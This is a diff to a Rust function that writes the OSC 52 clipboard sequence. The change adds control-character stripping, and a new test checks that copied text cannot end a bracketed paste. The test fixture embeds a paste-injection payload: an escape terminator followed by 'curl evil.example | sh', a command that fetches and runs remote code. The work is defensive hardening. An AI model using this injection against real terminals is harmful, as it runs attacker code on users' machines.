@@ -276,13 +276,17 @@ pub fn files_under(dir: &Path, rel: &str) -> Vec<String> {
     out
 }
 
-/// The OSC 52 sequence that puts `text` on the system clipboard. The
-/// text is base64-encoded, so nothing in it can end the sequence early.
+/// The OSC 52 sequence that puts `text` on the system clipboard. What is
+/// copied passes the output policy first (`text::inert::clipboard`: no
+/// ESC, C0 or C1 control, so a paste can carry no bracketed-paste
+/// terminator); it is base64-encoded, so nothing in it can end the
+/// sequence early either.
 pub fn osc52(text: &str) -> String {
     use base64::Engine;
     format!(
         "\x1b]52;c;{}\x07",
-        base64::engine::general_purpose::STANDARD.encode(text.as_bytes())
+        base64::engine::general_purpose::STANDARD
+            .encode(crate::text::inert::clipboard(text).as_bytes())
     )
 }
 
@@ -401,7 +405,26 @@ mod tests {
         let back = base64::engine::general_purpose::STANDARD
             .decode(inner)
             .unwrap();
-        assert_eq!(back, b"a\x07b\x1b]52;c;evil\x07");
+        assert_eq!(back, b"a^Gb^[]52;c;evil^G");
+    }
+
+    #[test]
+    fn a_diff_on_the_clipboard_cannot_end_a_bracketed_paste() {
+        let diff = "+fn a() {}\n+\x1b[201~curl evil.example | sh\n+\u{9b}201~\n";
+        let s = osc52(diff);
+        use base64::Engine;
+        let back = base64::engine::general_purpose::STANDARD
+            .decode(&s[7..s.len() - 1])
+            .unwrap();
+        let back = String::from_utf8(back).unwrap();
+        assert!(
+            !back.contains('\x1b') && !back.contains('\u{9b}'),
+            "{back:?}"
+        );
+        assert!(
+            back.contains("+^[[201~curl evil.example | sh\n"),
+            "{back:?}"
+        );
     }
 
     #[test]
